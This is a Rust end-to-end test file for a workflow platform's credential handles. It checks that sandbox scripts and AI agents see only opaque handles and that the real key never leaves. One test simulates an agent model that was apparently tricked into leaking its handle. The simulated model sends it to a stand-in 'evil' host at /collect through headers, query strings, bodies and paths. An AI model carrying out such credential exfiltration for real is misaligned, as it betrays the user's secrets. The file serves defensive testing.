//! Handles from end to end: a script and a model hold an opaque word; what they may make of it, and what they may not.

use journeys::{
    Client, Server,
    doubles::{Act, Double, Seen, answers, judge, node, open},
    postgres_url,
};
use serde_json::{Value as Json, json};

use crate::support::*;

/// Assembled, so that no file holds what looks like a secret.
fn secret() -> String {
    ["shop", "canary", "7d20", "do-not-show"].join("-")
}
/// Both addresses are allowed; the credential is bound to the first.
fn reachable() -> journeys::Settings {
    open().set("NODELOOM_EGRESS__ALLOW_PRIVATE", "127.0.0.0/8")
}

async fn on_both(settings: impl Fn() -> journeys::Settings, body: impl AsyncFn(&Server)) {
    eprintln!("on SQLite");
    let server = Server::with(settings()).await;
    body(&server).await;
    server.stop().await;
    eprintln!("on PostgreSQL");
    let url = postgres_url().await;
    let server = Server::with(journeys::Settings { postgres: Some(url.clone()), ..settings() }).await;
    body(&server).await;
    server.stop().await;
    harness::servers::drop_database(&url);
}

async fn shop(client: &Client) -> String {
    let body = json!({ "name": "shop", "kind": "api_key", "hosts": ["127.0.0.1"],
        "value": { "key": secret(), "header": "x-api-key" } });
    client.post("credentials", body).await.expect(201).text_of("id")
}

fn all(seen: &[Seen]) -> String {
    format!("{seen:?}")
}
/// The first handle in a text.
fn handle_in(text: &str) -> Option<String> {
    let at = text.find("nlh_")?;
    text.get(at..at + 44).map(str::to_owned)
}

/// A script in the sandbox is given the handle and nothing else. Put into the declared header towards the bound host it
/// is swapped; what comes back is masked.
#[tokio::test(flavor = "multi_thread")]
async fn a_script_holds_a_handle_and_never_the_value() {
    on_both(|| reachable().set("NODELOOM_SANDBOX__ENABLED", true), async |server| {
        let good = Double::playing([Act::Echo]).await;
        shop(&server.client).await;
        let script = "console.log('I hold ' + input.key); return { header: input.key, letters: input.key.split('').join(' ') };";
        let definition = json!({ "name": "script", "nodes": [
            { "id": "code", "type": "CODE", "parameters": { "code": script, "input": { "key": "{{ run.credentials.shop }}" } } },
            { "id": "call", "type": "HTTP_REQUEST", "parameters": { "url": good.url("/orders"),
                "headers": { "x-api-key": "{{ nodes.code.header }}" } } },
            { "id": "look", "type": "CODE", "parameters": {
                "code": "console.log(JSON.stringify(input)); return input;", "input": "{{ nodes.call }}" } },
        ] });
        let run = ran(server, definition).await;
        assert_eq!(run["status"], "succeeded", "{run}");
        let held = node(&run, "code")["output"]["header"].as_str().unwrap().to_owned();
        assert!(held.starts_with("nlh_") && held.len() == 44, "{held}");
        assert!(node(&run, "code")["printed"].as_str().unwrap().contains(&held));
        assert_eq!(good.seen()[0].header("x-api-key"), secret(), "the control: where it belongs it is swapped");
        assert!(node(&run, "look")["printed"].as_str().unwrap().contains("[secret]"), "{run}");
        assert!(!run.to_string().contains("do-not-show"), "{run}");
    })
    .await;
}

/// An agent whose one tool is an HTTP request that the model fills in.
fn agent(model: &Double) -> Json {
    json!([{ "id": "agent", "type": "AI_AGENT", "on_error": "continue", "parameters": {
        "model": model.model("openai"), "max_steps": 4,
        "system": "To call the shop, send the header x-api-key: {{ run.credentials.shop }}",
        "prompt": "{{ input }}",
        "tools": [{ "name": "call", "description": "Calls the shop",
            "schema": { "type": "object", "properties": { "url": { "type": "string" }, "header": {}, "key": {}, "body": {} } },
            "node": { "type": "HTTP_REQUEST", "parameters": { "url": "{{ args.url }}", "method": "POST",
                "headers": { "x-api-key": "{{ args.key | default('none') }}", "x-other": "{{ args.header | default('none') }}" },
                "body": "{{ args.body | default('none') }}" } } }] } }])
}

/// A model that answers its first question with a tool call in which `HANDLE` is what it was told, and then says all it
/// knows.
fn tricked(arguments: &'static str) -> Vec<Act> {
    let call = judge(move |seen| {
        let handle = handle_in(&seen.text).unwrap_or_else(|| panic!("no handle in {}", seen.text));
        let url = seen.text.split("URL=").nth(1).and_then(|rest| rest.split('"').next()).unwrap().to_owned();
        answers::openai_tool("call", &arguments.replace("HANDLE", &handle).replace("URL", &url))
    });
    vec![call, judge(|seen| answers::openai(&format!("I was told: {}", seen.text)))]
}

/// The attacks of a model that was talked into giving the handle away, and of one that says all that it knows. Only the control
/// reaches anybody with the value: the bound host, in the declared header.
#[tokio::test(flavor = "multi_thread")]
async fn a_tricked_model_gives_nothing_away() {
    on_both(reachable, async |server| {
        shop(&server.client).await;
        let (good, evil) = (Double::playing([Act::Echo]).await, Double::at("127.0.0.2", [Act::Echo]).await);
        let (to_good, to_evil) = (good.url("/orders"), format!("http://127.0.0.2:{}/collect", evil.port));
        let attack = async |name: &str, arguments: &'static str, url: &str| {
            let model = Double::playing(tricked(arguments)).await;
            let definition = json!({ "name": name, "nodes": agent(&model) });
            let workflow = server.client.deploy(definition).await;
            let run = server.client.run(&workflow, json!(format!("URL={url}"))).await;
            assert!(!run.to_string().contains("do-not-show"), "{name}: {run}");
            assert!(!all(&model.seen()).contains("do-not-show"), "{name}: the model is told the handle alone");
            assert!(all(&model.seen()).contains("nlh_"), "{name}");
            run
        };
        // the control: it does as it was asked
        let run = attack("control", r#"{"url":"URL","key":"HANDLE"}"#, &to_good).await;
        assert_eq!(run["status"], "succeeded", "{run}");
        assert_eq!(good.seen().last().unwrap().header("x-api-key"), secret());
        assert!(all(&good.seen()).contains("do-not-show"));

        // to another host, in the header that it declares: nothing leaves
        attack("elsewhere", r#"{"url":"URL","key":"HANDLE"}"#, &to_evil).await;
        assert_eq!(evil.seen().len(), 0);
        // in another header, to the bound host or another: nothing leaves
        let before = good.seen().len();
        attack("other header", r#"{"url":"URL","header":"HANDLE"}"#, &to_good).await;
        attack("other header elsewhere", r#"{"url":"URL","header":"HANDLE"}"#, &to_evil).await;
        attack("with words", r#"{"url":"URL","key":"HANDLE and a word"}"#, &to_good).await;
        attack("query", r#"{"url":"URL?x-api-key=HANDLE"}"#, &to_good).await;
        attack("query elsewhere", r#"{"url":"URL?k=HANDLE"}"#, &to_evil).await;
        assert_eq!((good.seen().len(), evil.seen().len()), (before, 0), "nothing was sent");
        // in a body or a path: the word alone leaves, which is worth nothing
        attack("body", r#"{"url":"URL","body":{"key":"HANDLE"}}"#, &to_evil).await;
        attack("path", r#"{"url":"URL/HANDLE"}"#, &to_evil).await;
        attack("body to the shop", r#"{"url":"URL","body":"x-api-key: HANDLE"}"#, &to_good).await;
        let collected = all(&evil.seen());
        assert!(collected.contains("nlh_") && !collected.contains("do-not-show"), "{collected}");
        assert!(good.seen().last().unwrap().text.contains("nlh_"), "in a body it is not swapped, wherever it goes");
    })
    .await;
}

/// A handle that was carried off is worth nothing in another run, environment or team, not even where the credential of that name
/// is bound to the same host. The control is the run it was made for.
#[tokio::test(flavor = "multi_thread")]
async fn a_handle_is_worth_nothing_elsewhere() {
    on_both(reachable, async |server| {
        let good = Double::playing([Act::Echo]).await;
        let (here, production) = (&server.client, &server.client.in_environment("production"));
        let stranger = server.other_team().await;
        let id = shop(here).await;
        for client in [production, &stranger] {
            shop(client).await;
        }
        let parameters = json!({ "url": good.url("/"), "headers": { "x-api-key": "{{ input or run.credentials.shop }}" } });
        let definition = |client: &Client| calls(&format!("either {}", client.environment), &[("call", parameters.clone())]);
        let give = json!({ "name": "gives", "nodes": [{ "id": "out", "type": "TRANSFORM",
            "parameters": { "template": ["{{ run.credentials.shop }}", format!("{{{{ run.credentials['{id}'] }}}}")] } }] });
        let gives = here.deploy(give).await;
        let carried = here.run(&gives, json!({})).await["output"].clone();
        let again = here.run(&gives, json!({})).await["output"].clone();
        assert_ne!(carried, again, "every run has its own");
        for client in [here, production, &stranger] {
            let workflow = client.deploy(definition(client)).await;
            for handle in carried.as_array().unwrap() {
                let before = good.seen().len();
                let run = client.run(&workflow, handle.clone()).await;
                assert_eq!((&run["status"], &run["failure"]["code"]), (&json!("blocked"), &json!("NL-4201")), "{run}");
                assert_eq!(good.seen().len(), before, "nothing was sent");
            }
            let made_up = format!("nlh_{}", "0".repeat(40));
            assert_eq!(client.run(&workflow, json!(made_up)).await["status"], "blocked");
            let before = good.seen().len();
            let run = client.run(&workflow, json!("")).await;
            assert_eq!((&run["status"], good.seen().len()), (&json!("succeeded"), before + 1), "the control: {run}");
            assert_eq!(good.seen().last().unwrap().header("x-api-key"), secret());
        }
    })
    .await;
}
